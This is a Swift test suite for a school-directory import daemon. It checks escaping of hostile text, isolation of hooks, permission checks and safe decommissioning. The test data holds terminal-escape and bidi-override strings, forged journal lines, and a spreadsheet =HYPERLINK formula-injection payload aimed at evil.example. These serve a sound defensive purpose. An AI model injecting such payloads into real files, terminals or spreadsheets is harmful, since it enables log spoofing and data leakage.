import AAFFixtures
import AAFModel
import AAFTestSupport
import Foundation
import Testing

#if canImport(Glibc)
import Glibc
#endif

/// What text from outside may hold, and must never reach a terminal, the journal or a child raw (issue 20).
let rawControls: [Character] = ["\u{1B}", "\u{07}", "\r", "\u{9B}", "\u{202E}"]

func holdsRawControl(_ text: String) -> Bool {
    text.unicodeScalars.contains { s in
        (s.value < 0x20 && s != "\n" && s != "\t") || (0x7F...0x9F).contains(s.value) || s.value == 0x202E
    }
}

/// A copy of the 2025-09-01 delivery whose first pupils' birth surnames are `names` (XML text, escaped by the caller).
func dayWithNames(_ cli: CLI, _ names: [String]) throws -> String {
    let folder = try cli.copyOfDay("20250901")
    let path = folder + "/ENT1D_Complet_20250901_Eleve_0000.xml"
    var text = try String(contentsOfFile: path, encoding: .utf8)
    let marker = "<attr name=\"ENTPersonNomPatro\"><value>"
    var from = text.startIndex
    for name in names {
        let start = try #require(text.range(of: marker, range: from..<text.endIndex))
        let end = try #require(text.range(of: "</value>", range: start.upperBound..<text.endIndex))
        text.replaceSubrange(start.upperBound..<end.lowerBound, with: name)
        from = text.index(start.upperBound, offsetBy: name.count)
    }
    try text.write(toFile: path, atomically: true, encoding: .utf8)
    return folder
}

/// Issue 20: root never acts on what a less trusted user can write, and text from outside is escaped before it
/// reaches a terminal, the journal or a child. Each test fails without the change it names.
@Suite("Trust: escaped outside text, isolated children, trusted files, decommission without links")
struct RootTrustTests {
    @Test("XML values with C1 controls, bidi overrides and &#10;: person show escapes them; --json stays exact JSON")
    func hostileValues() throws {
        let cli = CLI()
        let folder = try dayWithNames(cli, ["A&#155;[2JB&#8238;C&#10;&lt;0&gt;FORGED"])
        let imported = try cli.run(["import", "--config", cli.config, "--from-dir", folder])
        #expect(imported.status == 0, "\(imported.stderr)")
        let shown = try cli.run(["person", "show", "4100000", "--config", cli.config])
        #expect(shown.status == 0, "\(shown.stderr)")
        #expect(!holdsRawControl(shown.stdout), "raw control in: \(shown.stdout.debugDescription)")
        #expect(shown.stdout.contains("A\\u009b[2JB\\u202eC\\n<0>FORGED"))
        #expect(!shown.stdout.split(separator: "\n").contains { $0.hasPrefix("<0>") })
        let json = try cli.run(["person", "show", "4100000", "--json", "--config", cli.config])
        #expect(!holdsRawControl(json.stdout))
        let object = try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any]
        let attributes = try #require(object?["attributes"] as? [String: Any])
        #expect(attributes.values.contains { ($0 as? String) == "A\u{9B}[2JB\u{202E}C\n<0>FORGED" })
    }

    @Test("free text of the registers (--by, --nature): request list and incident show print it escaped")
    func registersFreeText() throws {
        let cli = CLI()
        #expect(try cli.importDay("20250901").status == 0)
        let evil = "DPO\u{1B}]0;pwned\u{07}\u{1B}[2J\r\u{202E}"
        let opened = try cli.run([
            "request", "open", "--kind", "access", "4100000", "--received", cli.today.iso, "--by", evil,
            "--config", cli.config,
        ])
        #expect(opened.status == 0, "\(opened.stderr)")
        let list = try cli.run(["request", "list", "--config", cli.config])
        #expect(!holdsRawControl(list.stdout) && list.stdout.contains("DPO\\x1b]0;pwned\\x07"))
        let declared = try cli.run([
            "incident", "declare", "--kind", "breach", "--at", "2026-01-05T08:00", "--by", evil, "--nature",
            "line one\n<0>FORGED" + evil,
            "--config", cli.config,
        ])
        #expect(declared.status == 0, "\(declared.stderr)")
        let show = try cli.run(["incident", "show", "1", "--config", cli.config])
        #expect(!holdsRawControl(show.stdout), "\(show.stdout.debugDescription)")
        #expect(!show.stdout.split(separator: "\n").contains { $0.hasPrefix("<0>") })
    }

    @Test(
        "an SFTP server's status text with ESC, BEL, CR/LF and <0>: nothing raw on the journal stream",
        .enabled(if: SSHServer.available && AsyncSSHServer.available, "needs root and the asyncssh venv")
    )
    func hostileServerText() throws {
        let keys = TemporaryDirectory("hostile-status-key")
        let key = try SSHServer.makeKey(keys.file("id_rsa"), pem: true)
        let server = try AsyncSSHServer(authorizedKeys: [key + ".pub"], hostileStatus: true)
        try dropDay(interopDay, into: server.remoteDirectory)
        let scratch = TemporaryDirectory("hostile-status")
        let alert = scratch.file("alert-env.txt")
        let client = InteropClient(server, key: key, extra: "")
        let config = client.cli.temp.write(
            "alerting.toml",
            (try String(contentsOfFile: client.cli.config, encoding: .utf8))
                + "\n[alert]\ncommand = \"env > \(alert)\"\n"
        )
        let log = scratch.file("journal.txt")
        let fd = open(log, O_WRONLY | O_CREAT | O_TRUNC, 0o600)
        var info = stat()
        fstat(fd, &info)
        let environment = ["PATH": "/usr/bin:/bin", "JOURNAL_STREAM": "\(info.st_dev):\(info.st_ino)"].merging(
            sanitizerOptions
        ) { a, _ in a }
        let child = try ChildProcess(
            Paths.aafdBinary,
            ["import", "--config", config],
            environment: environment,
            stderr: fd
        )
        let status = child.wait()
        close(fd)
        let journal = try String(contentsOfFile: log, encoding: .utf8)
        #expect(status != 0)
        #expect(journal.contains("boom\\n<0>aafd: FORGED EMERGENCY LINE\\x1b]0;pwned\\x07"), "\(journal)")
        #expect(!holdsRawControl(journal), "\(journal.debugDescription)")
        for line in journal.split(separator: "\n") {
            #expect(line.hasPrefix("<3>") || line.hasPrefix("<4>") || line.hasPrefix("<5>") || line.hasPrefix("<6>"))
        }
        // AAFD_REASON: the alert's environment is escaped (AAFPipelineTests' "alert environment"); a transfer
        // failure on its first morning raises no incident yet, so the alert is not reached here.
        _ = alert
    }

    @Test("a hook started by root with an extra open descriptor sees only 0-2, a fixed environment, its own session")
    func isolatedHook() throws {
        let scratch = TemporaryDirectory("hook")
        chmod(scratch.path, 0o755)
        let out = scratch.path
        // Run as root would from a shell: its PATH, its USER, a variable of its own, and an extra open descriptor.
        func importWithHook(_ hook: String) throws -> ProcessResult {
            let cli = CLI(extra: "[hooks]\nafter_import = \"\(hook)\"\n")
            return try runProgram(
                Paths.aafdBinary,
                [
                    "import", "--config", cli.config, "--from-dir",
                    Paths.fixtures.appendingPathComponent("ent1d/20250901").path,
                ],
                environment: ["PATH": "/root/bin:/usr/bin:/bin", "AAFD_TEST_INHERITED": "1", "USER": "someone"]
            )
        }
        // Not close-on-exec: aafd inherits it, and must not hand it on.
        let secret = scratch.write("root-only.txt", "secret")
        let extra = open(secret, O_RDONLY)
        defer { close(extra) }
        #expect(extra > 2)
        let result = try importWithHook("exec /bin/ls /proc/self/fd > \(out)/fds.txt")
        #expect(result.status == 0, "\(result.stderr)")
        // The hook is `exec ls`: ls's own folder descriptor is 3, so 0-3 and nothing else.
        let fds = try String(contentsOfFile: out + "/fds.txt", encoding: .utf8).split(separator: "\n").map(String.init)
        #expect(fds == ["0", "1", "2", "3"], "the hook's descriptors: \(fds)")
        let second = try importWithHook(
            "env > \(out)/env.txt; cut -d' ' -f6 /proc/$$/stat > \(out)/sid.txt; echo $$ > \(out)/pid.txt"
        )
        #expect(second.status == 0, "\(second.stderr)")
        let env = try String(contentsOfFile: out + "/env.txt", encoding: .utf8)
        #expect(env.contains("PATH=/usr/sbin:/usr/bin:/sbin:/bin\n"))
        #expect(!env.contains("AAFD_TEST_INHERITED") && !env.contains("USER=someone") && env.contains("LANG=C.UTF-8"))
        let me = String(cString: getpwuid(geteuid())!.pointee.pw_name)
        #expect(env.contains("USER=\(me)\n") && env.contains("LOGNAME=\(me)\n"))
        let sid = try String(contentsOfFile: out + "/sid.txt", encoding: .utf8)
        let pid = try String(contentsOfFile: out + "/pid.txt", encoding: .utf8)
        #expect(sid == pid, "the hook leads its own session (no controlling terminal): sid \(sid), pid \(pid)")
    }

    @Test("CSV export: a cell a spreadsheet would run (=, +, -, @) starts with '")
    func csvFormulas() throws {
        let cli = CLI()
        let folder = try dayWithNames(
            cli,
            ["=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A2;&quot;ouvrir&quot;)", "+1", "-1", "@SUM(1+1)"]
        )
        #expect(try cli.run(["import", "--config", cli.config, "--from-dir", folder]).status == 0)
        let output = cli.temp.file("export.csv")
        let exported = try cli.run(["export", "--format", "csv", "--output", output, "--config", cli.config])
        #expect(exported.status == 0, "\(exported.stderr)")
        let csv = try String(contentsOfFile: output, encoding: .utf8)
        for cell in [
            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A2;\"\"ouvrir\"\")\"", ",'+1,", ",'-1,", ",'@SUM(1+1),",
        ] {
            #expect(csv.contains(cell), "no \(cell) in the CSV")
        }
        for formula in [",=", ",\"=", ",+1,", ",-1,", ",@"] { #expect(!csv.contains(formula), "\(formula) in the CSV") }
    }

    @Test("known_hosts, the alert's and the hook's programs writable by others or another user's: 78 with the fix")
    func untrustedFiles() throws {
        let scratch = TemporaryDirectory("untrusted")
        let knownHosts = scratch.write("known_hosts", "[127.0.0.1]:2222 ssh-ed25519 AAAA\n")
        let key = try SSHServer.makeKey(scratch.file("id_rsa"), pem: true)
        let program = scratch.write("alert.sh", "#!/bin/sh\nexit 0\n")
        chmod(program, 0o755)
        let sftp = """
            [sftp]
            host = "127.0.0.1"
            port = 2222
            user = "u"
            private_key = "\(key)"
            known_hosts = "\(knownHosts)"
            remote_dir = "/drop"
            """
        func refused(_ extra: String, _ expected: String) throws {
            let cli = CLI(extra: extra)
            for arguments in [["check-config"], ["status"], ["import"]] {
                let result = try cli.run(arguments + ["--config", cli.config])
                #expect(result.status == 78, "\(arguments): \(result.status) \(result.stderr)")
                #expect(result.stderr.contains(expected), "\(arguments): \(result.stderr)")
            }
        }
        chmod(knownHosts, 0o666)
        try refused(sftp, "known_hosts \(knownHosts) has mode 666")
        try refused(sftp, "Fix: chmod go-w \(knownHosts)")
        chmod(knownHosts, 0o644)
        chmod(program, 0o777)
        try refused(sftp + "\n[alert]\ncommand = \"\(program) --now\"\n", "the program of [alert] command")
        chmod(program, 0o755)
        if geteuid() == 0 {
            chown(program, 65534, 65534)
            try refused(sftp + "\n[hooks]\nafter_import = \"\(program)\"\n", "belongs to uid 65534")
        }
        chown(program, geteuid(), getegid())
        let fine = CLI(extra: sftp + "\n[alert]\ncommand = \"\(program)\"\n")
        #expect(try fine.run(["status", "--config", fine.config]).status == 0)
    }

    @Test(
        "decommission --inventory into a link or another user's folder: refused, nothing chowned or written",
        .enabled(if: geteuid() == 0, "needs root (chown)")
    )
    func inventoryRefusals() throws {
        let cli = CLI()
        #expect(try cli.importDay("20250901").status == 0)
        let scratch = TemporaryDirectory("inventory")
        let victim = scratch.folder("root-folder")
        chmod(victim, 0o755)
        let link = scratch.file("inventory-link")
        symlink(victim, link)
        let viaLink = try cli.run(["decommission", "--inventory", link, "--config", cli.config])
        #expect(viaLink.status == 73, "\(viaLink.stderr)")
        var info = stat()
        lstat(victim, &info)
        #expect(info.st_uid == 0 && info.st_mode & 0o7777 == 0o755)
        #expect((try FileManager.default.contentsOfDirectory(atPath: victim)).isEmpty)
        let others = scratch.folder("others")
        chmod(others, 0o700)
        chown(others, 65534, 65534)
        let foreign = try cli.run(["decommission", "--inventory", others, "--config", cli.config])
        #expect(foreign.status == 73 && foreign.stderr.contains("belongs to uid 65534"), "\(foreign.stderr)")
        lstat(others, &info)
        #expect(info.st_uid == 65534)
        let mine = scratch.file("mine")
        let written = try cli.run(["decommission", "--inventory", mine, "--config", cli.config])
        #expect(written.status == 0, "\(written.stderr)")
        let erase = try String(contentsOfFile: mine + "/aafd.erase", encoding: .utf8)
        #expect(erase.contains("file \(cli.database)\n"))
        #expect(fileContains(mine + "/aafd.certificate", "enregistrements de suppression"))
    }

    @Test(
        "decommission --confirm-erase-everything: the certificate first; where it cannot be written, nothing is erased"
    )
    func certificateFirst() throws {
        let cli = CLI()
        #expect(try cli.importDay("20250901").status == 0)
        let nowhere = cli.temp.file("missing-folder/final.txt")
        let refused = try cli.run([
            "decommission", "--confirm-erase-everything", "--certificate", nowhere, "--config", cli.config,
        ])
        #expect(refused.status == 73, "\(refused.stderr)")
        #expect(refused.stderr.contains("nothing was erased") && refused.stderr.contains("--certificate PATH"))
        #expect(FileManager.default.fileExists(atPath: cli.database))
        // By default beside the configuration, in a folder others may look into but not write (as /etc/aafd, 0755).
        chmod(cli.temp.path, 0o755)
        let erased = try cli.run(["decommission", "--confirm-erase-everything", "--config", cli.config])
        #expect(erased.status == 0, "\(erased.stderr)")
        let name = try #require(
            try FileManager.default.contentsOfDirectory(atPath: cli.temp.path).first {
                $0.hasPrefix("aafd-final-certificate-")
            }
        )
        let target = cli.temp.file(name)
        var info = stat()
        #expect(stat(target, &info) == 0 && info.st_mode & 0o777 == 0o600)
        let text = try String(contentsOfFile: target, encoding: .utf8)
        #expect(text.contains("Effacement commencé : ") && text.contains("Effacement terminé : "))
        #expect(!FileManager.default.fileExists(atPath: cli.database))
    }
}
